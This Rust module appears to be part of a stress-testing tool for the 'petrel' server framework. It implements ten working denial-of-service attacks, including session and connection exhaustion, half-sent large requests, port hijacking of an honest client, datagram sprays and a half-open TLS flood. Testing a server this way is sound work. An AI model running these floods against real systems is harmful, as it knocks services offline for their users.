//! The attacks. Every attack is set up, stays for a window, and is taken down.

use std::any::Any;
use std::collections::VecDeque;
use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, UdpSocket};
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use clap::ValueEnum;
use petrel::nexus::NexusBuilder;
use petrel::region::{RegionKey, RemoteRegion};
use petrel::security::Security;
use petrel::{Client, Nexus};
use petrel_command::credentials;
use petrel_command::failure::Failure;
use petrel_command::methods;
use petrel_hostile::{Connection, Neighbour, Shape, control, frames, spray};
use petrel_tls::Credentials;
use rustix::net::{AddressFamily, SendFlags, SocketFlags, SocketType, connect, send, socket_with};

use super::active::ActiveAttack;
use super::honest;
use super::tls::Tls;

/// The largest message that servers accept by default, in bytes.
const MESSAGE_BYTES: u32 = 8 << 20;

/// Sessions with eight half requests each: together more than an endpoint's message memory.
const HALF_SESSIONS: u32 = 16;

/// Idle clients with eight answers each: together more than an endpoint's message memory.
const IDLE_CLIENTS: usize = 12;

/// Wake-ups that the attacker does not read: many times the length of a socket's queue.
const WAKE_UPS: u64 = 4_000;

/// An answer that takes longer is taken for lost.
const ANSWER_TIMEOUT: Duration = Duration::from_secs(2);

/// The number of threads that read, and of the pieces of each read.
const READERS: u32 = 4;
const READ_PIECES: u32 = 8;

/// Connections of a second that begin a handshake, and those that stay open.
const HALF_OPEN_PER_S: f64 = 10_000.0;
const HALF_OPEN_HELD: usize = 1_000;

/// More connections with links than an identity may have, and the record of LINK_OPEN that those inside TLS need.
const TLS_CONNECTIONS: u32 = 3_300;
const KEY_PATH: u16 = 13;

/// More connections than a server accepts.
const CONNECTIONS: u16 = 4_200;

/// Sessions to open in total, per batch, and the connections with them: two have an address's share.
const SESSIONS: u32 = 195_000;
const SESSIONS_AT_ONCE: u32 = 500;
const SESSION_HOLDERS: u32 = 3;

/// Half of an address's share: with fewer, the attack has not begun.
const SESSIONS_LEAST: u32 = 60_000;

/// The attack to run.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(crate) enum AttackKind {
    /// First packets of 8 MiB requests that never continue
    HalfRequests,
    /// Clients that fetch eight answers of 8 MiB each, and fall silent
    KeptAnswers,
    /// Links to an honest client's address and port, with a small datagram limit and other ECN
    SecondLink,
    /// A neighbour in shared memory of the same user, whose wake-up would block the server
    Doorbell,
    /// 4 200 connections with a link and a session each
    Connections,
    /// 195 000 sessions of three connections, without a request
    Sessions,
    /// Datagrams of strangers, well formed or not, as fast as possible
    Spray,
    /// Four threads of a neighbour that read 8 MiB of a region each, one after the other, over shared memory
    LargeReads,
    /// 3 300 connections, 195 000 sessions and the message memory of one identity, beside honest clients of another; for servers with
    /// --credentials
    BeyondQuota,
    /// 10 000 connections a second that begin a TLS handshake and do not go on; for servers with --credentials
    HalfOpenTls,
}

/// The victim of an attack.
#[derive(Clone, Copy, Debug)]
pub(super) struct Target<'a> {
    pub(super) address: SocketAddr,
    /// The key of the server's region.
    pub(super) region: &'a str,
    /// The data port of an honest client.
    pub(super) victim_port: u16,
    /// The folder of the attacker's own credentials.
    pub(super) attacker: Option<&'a Path>,
}

impl AttackKind {
    /// Returns the attack's name on the command line.
    pub(super) fn name(self) -> String {
        self.to_possible_value().map_or_else(String::new, |value| value.get_name().to_owned())
    }

    /// Returns true if the attack keeps sending after its set-up.
    pub(super) fn floods(self) -> bool {
        matches!(self, Self::Spray | Self::LargeReads | Self::HalfOpenTls)
    }

    pub(super) fn set_up(self, target: Target<'_>) -> Result<ActiveAttack, Failure> {
        match self {
            Self::HalfRequests => half_requests(target),
            Self::KeptAnswers => {
                kept_answers(target, || credentials::apply(Nexus::builder(), false))
            }
            Self::SecondLink => second_link(target),
            Self::Doorbell => doorbell(target),
            Self::Connections => connections(target),
            Self::Sessions => sessions(target),
            Self::Spray => spray_strangers(target),
            Self::LargeReads => large_reads(target),
            Self::BeyondQuota => beyond_quota(target),
            Self::HalfOpenTls => half_open_tls(target),
        }
    }
}

fn refused(what: &str) -> Failure {
    Failure::because(format!("the server refused the attacker's {what}"))
}

/// Opens a connection with a link to a new data port.
fn linked(target: Target<'_>) -> Result<(Connection, control::Link, UdpSocket), Failure> {
    let socket = UdpSocket::bind((target.address.ip(), 0))?;
    let port = socket.local_addr()?.port();
    let mut connection = Connection::greet(target.address)?;
    let link = connection.open_link(1, port, 1_472, false)?.ok_or_else(|| refused("link"))?;
    Ok((connection, link, socket))
}

fn half_requests(target: Target<'_>) -> Result<ActiveAttack, Failure> {
    let (mut connection, link, socket) = linked(target)?;
    let mut sent = 0;
    for request in 0..HALF_SESSIONS {
        let session = connection.open_session(&link, request, Shape::default())?;
        let session = session.ok_or_else(|| refused("session"))?;
        for slot in 0..u64::from(session.slots) {
            let size = MESSAGE_BYTES;
            let part = frames::request_part(&session, slot, methods::ECHO, size, 0, 1);
            socket.send_to(&part, link.data)?;
            sent += 1;
        }
    }
    let obtained = format!("{sent} first packets of requests of 8 MiB");
    Ok(ActiveAttack::holding(vec![Box::new(connection), Box::new(socket)], obtained))
}

fn kept_answers(
    target: Target<'_>,
    nexus: impl Fn() -> NexusBuilder,
) -> Result<ActiveAttack, Failure> {
    let (mut held, mut answers, mut refusals): (Vec<Box<dyn Any>>, _, _) = (Vec::new(), 0, 0);
    for _ in 0..IDLE_CLIENTS {
        let mut endpoint = honest::endpoint_of(nexus())?;
        // The server keeps each answer in a slot until the slot's next request.
        for _ in 0..8 {
            let Ok(session) = endpoint.connect_wait(target.address) else {
                refusals += 1;
                continue;
            };
            let request = methods::source_request(MESSAGE_BYTES, 7);
            match endpoint.call(session, methods::SOURCE, &request).wait() {
                Ok(_) => answers += 1,
                Err(_) => refusals += 1,
            }
        }
        held.push(Box::new(endpoint));
    }
    let obtained = format!("{answers} answers of 8 MiB, {refusals} refused");
    Ok(ActiveAttack::holding(held, obtained))
}

fn second_link(target: Target<'_>) -> Result<ActiveAttack, Failure> {
    let mut connection = Connection::greet(target.address)?;
    let mut links = 0;
    for (number, (max_frame, ecn)) in
        [(1_232, false), (1_232, true), (65_507, false), (65_507, true)].into_iter().enumerate()
    {
        let link = connection.open_link(number as u32, target.victim_port, max_frame, ecn)?;
        if let Some(link) = link {
            connection.open_session(&link, number as u32, Shape::default())?;
            links += 1;
        }
    }
    Ok(ActiveAttack::holding(
        vec![Box::new(connection)],
        format!("{links} links to the victim's port"),
    ))
}

fn doorbell(target: Target<'_>) -> Result<ActiveAttack, Failure> {
    let mut neighbour = match Neighbour::connect(target.address) {
        Ok(neighbour) => neighbour,
        Err(error) if error.kind() == ErrorKind::PermissionDenied => {
            return Ok(ActiveAttack::holding(Vec::new(), error.to_string()));
        }
        Err(error) => return Err(error.into()),
    };
    for answers in 0..WAKE_UPS {
        neighbour.declare_sleep()?;
        neighbour.send_request(methods::ECHO, b"wake me")?;
        let end = Instant::now() + ANSWER_TIMEOUT;
        while !neighbour.has_answer(answers)? {
            if Instant::now() > end {
                let obtained = format!("the server hangs after {answers} wake-ups");
                return Ok(ActiveAttack::holding(vec![Box::new(neighbour)], obtained));
            }
            thread::yield_now();
        }
    }
    let obtained = format!("{WAKE_UPS} wake-ups that nobody took");
    Ok(ActiveAttack::holding(vec![Box::new(neighbour)], obtained))
}

fn connections(target: Target<'_>) -> Result<ActiveAttack, Failure> {
    let (mut held, mut sessions): (Vec<Box<dyn Any>>, _) = (Vec::new(), 0);
    let shape = Shape { slots: 1, ..Shape::default() };
    for port in 1..=CONNECTIONS {
        // A connection that the server drops in favour of another serves the attack equally.
        let Ok(mut connection) = Connection::greet(target.address) else { continue };
        if let Ok(Some(link)) = connection.open_link(1, port, 1_232, false) {
            sessions += u32::from(matches!(connection.open_session(&link, 1, shape), Ok(Some(_))));
        }
        held.push(Box::new(connection));
    }
    if sessions < u32::from(CONNECTIONS) / 4 {
        return Err(Failure::because(format!("the attack got only {sessions} sessions")));
    }
    let obtained = format!("{} connections, {sessions} with a session", held.len());
    Ok(ActiveAttack::holding(held, obtained))
}

fn sessions(target: Target<'_>) -> Result<ActiveAttack, Failure> {
    let (mut held, mut accepted): (Vec<Box<dyn Any>>, _) = (Vec::new(), 0);
    for _ in 0..SESSION_HOLDERS {
        let (mut connection, link, socket) = linked(target)?;
        for first in (0..SESSIONS / SESSION_HOLDERS).step_by(SESSIONS_AT_ONCE as usize) {
            match open_sessions(&mut connection, &link, first..first + SESSIONS_AT_ONCE) {
                Ok(count) => accepted += count,
                // The server has ended the connection in favour of another.
                Err(_) => break,
            }
        }
        held.extend([Box::new(connection) as Box<dyn Any>, Box::new(socket)]);
    }
    if accepted < SESSIONS_LEAST {
        return Err(Failure::because(format!("the attack got only {accepted} sessions")));
    }
    let obtained = format!("{accepted} sessions of {SESSIONS}");
    Ok(ActiveAttack::holding(held, obtained))
}

/// Takes more than the share of an identity, of each resource that has one.
fn beyond_quota(target: Target<'_>) -> Result<ActiveAttack, Failure> {
    let folder = target.attacker.ok_or_else(|| {
        Failure::because(
            "beyond-quota needs credentials of an own identity: name them by --attacker",
        )
    })?;
    let security: Arc<dyn Security> = Arc::new(Credentials::from_dir(folder)?);
    let nexus = || Nexus::builder().credentials(Arc::clone(&security));
    let mut attack = kept_answers(target, nexus)?;
    let linked = |number: u32| -> Result<(Connection<Tls>, Option<control::Link>), Failure> {
        let stream = Tls::connect(target.address, &*security)?;
        let mut connection = Connection::greet_over(stream, target.address)?;
        let open = control::link_open(number, 1, 1_232, false).with(KEY_PATH, number.to_le_bytes());
        let link = connection.open_link_by(number, 1_232, &open)?;
        Ok((connection, link))
    };
    let (mut links, mut sessions) = (0, 0);
    for number in 0..SESSION_HOLDERS + TLS_CONNECTIONS {
        // The server ends a connection in favour of another when the identity has its share.
        let Ok((mut connection, Some(link))) = linked(number) else { continue };
        links += 1;
        let requests = if number < SESSION_HOLDERS { SESSIONS / SESSION_HOLDERS } else { 1 };
        for first in (0..requests).step_by(SESSIONS_AT_ONCE as usize) {
            let requests = first..requests.min(first + SESSIONS_AT_ONCE);
            match open_sessions(&mut connection, &link, requests) {
                Ok(count) => sessions += count,
                Err(_) => break,
            }
        }
        attack = attack.and_holding(Box::new(connection));
    }
    if links < TLS_CONNECTIONS || sessions < SESSIONS_LEAST {
        let text = format!("the attack got only {links} links and {sessions} sessions");
        return Err(Failure::because(text));
    }
    Ok(attack.and_obtained(&format!(", {links} connections with a link, {sessions} sessions")))
}

/// Opens sessions without a request; returns how many the server has accepted.
fn open_sessions<S: Read + Write>(
    connection: &mut Connection<S>,
    link: &control::Link,
    requests: std::ops::Range<u32>,
) -> Result<u32, Failure> {
    let shape = Shape { slots: 64, ..Shape::default() };
    let opens: Vec<_> =
        requests.clone().map(|request| control::session_open(link, request, shape)).collect();
    connection.send_all(&opens)?;
    let mut accepted = 0;
    for request in requests {
        accepted += u32::from(connection.session_answer(request)?.is_some());
    }
    Ok(accepted)
}

fn spray_strangers(target: Target<'_>) -> Result<ActiveAttack, Failure> {
    let (connection, link, own) = linked(target)?;
    let stranger = UdpSocket::bind((target.address.ip(), 0))?;
    let mut number = 0;
    let work = move |count: &AtomicU64| {
        number += 1;
        // Alternates between an address without a link and one with a link. A full buffer refuses some datagrams.
        let from = if number % 2 == 0 { &stranger } else { &own };
        if from.send_to(&spray::datagram(number), link.data).is_ok() {
            count.fetch_add(1, Ordering::Relaxed);
        }
    };
    Ok(ActiveAttack::flooding("datagrams", vec![work]).and_holding(Box::new(connection)))
}

fn half_open_tls(target: Target<'_>) -> Result<ActiveAttack, Failure> {
    let security = credentials::get().ok_or_else(|| {
        Failure::because(
            "half-open-tls attacks a server with credentials: name them by --credentials",
        )
    })?;
    // Each connection sends the same first message, which costs the attacker nothing.
    let mut hello = Vec::new();
    security.connect(target.address, None)?.take_output(&mut hello);
    let (address, begun, mut held) = (target.address, Instant::now(), VecDeque::new());
    let work = move |count: &AtomicU64| {
        let due = (begun.elapsed().as_secs_f64() * HALF_OPEN_PER_S) as u64;
        if count.load(Ordering::Relaxed) >= due {
            thread::sleep(Duration::from_micros(100));
            return;
        }
        // The attacker waits for nothing: a connection that the system does not take at once counts as well.
        count.fetch_add(1, Ordering::Relaxed);
        let flags = SocketFlags::NONBLOCK | SocketFlags::CLOEXEC;
        let Ok(socket) = socket_with(AddressFamily::INET, SocketType::STREAM, flags, None) else {
            held.clear();
            return;
        };
        let _ = connect(&socket, &address);
        let _ = send(&socket, &hello, SendFlags::NOSIGNAL);
        held.push_back(socket);
        if held.len() > HALF_OPEN_HELD {
            held.pop_front();
        }
    };
    Ok(ActiveAttack::flooding("half-open TLS connections", vec![work]))
}

fn large_reads(target: Target<'_>) -> Result<ActiveAttack, Failure> {
    let key: RegionKey = target.region.parse().map_err(|_| refused("key"))?;
    let client = Client::connect_wait(target.address)?;
    let readers = (0..READERS).map(|_| {
        let remote = RemoteRegion::new(&client, key);
        move |count: &AtomicU64| {
            let piece = (0, MESSAGE_BYTES / READ_PIECES);
            let read = remote.read_many(&[piece; READ_PIECES as usize]).wait();
            count.fetch_add(u64::from(read.is_ok()), Ordering::Relaxed);
        }
    });
    let attack = ActiveAttack::flooding("reads of 8 MiB", readers.collect());
    let attack = attack.and_holding(Box::new(client));
    // The attack has begun when the first reads have been answered.
    let end = Instant::now() + ANSWER_TIMEOUT;
    while attack.sent() < u64::from(READERS) {
        if Instant::now() > end {
            return Err(refused("reads"));
        }
        thread::yield_now();
    }
    Ok(attack)
}
